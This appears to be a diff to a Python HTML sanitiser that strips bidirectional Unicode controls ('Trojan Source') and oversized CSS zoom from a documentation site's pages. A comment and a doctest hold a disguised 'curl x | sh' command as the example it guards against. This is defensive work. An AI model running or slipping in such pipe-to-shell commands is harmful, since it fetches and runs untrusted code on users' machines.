@@ -99,7 +99,8 @@ SCRIPT_IDS = frozenset({"errata-lookup"})
 #: nothing from other hosts (the Content-Security-Policy blocked it, and said so in the reader's console).
 #: And the tab controls Material's script makes (``tabbed-control``, ``tabbed-button``, never in the Markdown's
 #: HTML): absolutely placed, the button taking clicks, they laid a link over the whole page (a red-team audit).
-_THEME_CLASS = re.compile(r"md-|mermaid\Z|tabbed-(?:control|button)")
+#: And KaTeX's (the site renders no mathematics): the theme lets an ``<svg>`` in ``katex-html`` past the column.
+_THEME_CLASS = re.compile(r"md-|mermaid\Z|tabbed-(?:control|button)|katex")
 CONTENT_THEME_CLASSES = frozenset({"md-button", "md-button--primary"})
 
 
@@ -135,11 +136,47 @@ def _attribute_filter(element: str, attribute: str, value: str) -> str | None:
         return " ".join(name for name in value.split() if not theme_class(name)) or None
     if attribute == "cite" and not url_is_allowed(value):  # nh3 filters the schemes of links, not of a quote's source
         return None
-    if attribute == "style" and "zoom" in value.lower():
-        return _without_zoom_beyond_size(element, value) or None
     if attribute in _SVG_PAINT and ("\\" in value or _OUTSIDE_PAINT.search(html.unescape(value))):  # CSS reads \75rl( as url(
         return None
     return value
+
+
+#: A style attribute as the sanitiser writes it: its CSS escapes and comments read, each property by its plain
+#: name (``z\\oom`` and ``zoom/**/`` come out as ``zoom``), so the rule below reads what a browser will.
+_STYLED_TAG = re.compile(r'<([a-zA-Z][a-zA-Z0-9-]*)([^>]*?)\sstyle="([^"]*)"')
+
+
+def _without_large_zoom(cleaned: str) -> str:
+    """Sanitised HTML with no ``zoom`` but an image's own, at most its size (:func:`_without_zoom_beyond_size`).
+
+    >>> _without_large_zoom('<td style="zoom:300">x</td><img src="a.png" style="zoom:50%">')
+    '<td>x</td><img src="a.png" style="zoom:50%">'
+    """
+    if "zoom" not in cleaned:
+        return cleaned
+
+    def tag(match: re.Match) -> str:
+        if "zoom" not in match[3].lower():
+            return match[0]
+        style = _without_zoom_beyond_size(match[1].lower(), html.unescape(match[3]))
+        return f"<{match[1]}{match[2]}" + (f' style="{html.escape(style)}"' if style else "")
+
+    return _STYLED_TAG.sub(tag, cleaned)
+
+
+#: Characters that reorder the text around them (Unicode's embeddings, overrides and isolates): in a code
+#: block they showed ``pip install requests #; curl … | sh`` while the copy button copied the command in its own
+#: order, the curl no comment (an audit; "Trojan Source"). No Chinese or English text needs them.
+DIRECTION_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
+
+
+def _without_direction_controls(page: str) -> str:
+    """The page without :data:`DIRECTION_CONTROLS`.
+
+    >>> _without_direction_controls("pip install requests \u2067\u2066; curl x | sh \u2069\u2066# \u2069\u2069")
+    'pip install requests ; curl x | sh # '
+    """
+    return DIRECTION_CONTROLS.sub("", page)
 
 
 def _without_zoom_beyond_size(element: str, style: str) -> str:
@@ -192,7 +229,7 @@ def sanitize_html(page: str) -> str:
     >>> sanitize_html('<p><code>&lt;script&gt;</code></p>')
     '<p><code>&lt;script&gt;</code></p>'
     """
-    return _without_hidden_code(_without_text_boxes(_CLEANER.clean(page)))
+    return _without_hidden_code(_without_large_zoom(_without_text_boxes(_CLEANER.clean(_without_direction_controls(page)))))
 
 
 #: A tag as the sanitiser writes it (``<`` and ``>`` in text and in attribute values are escaped): its end
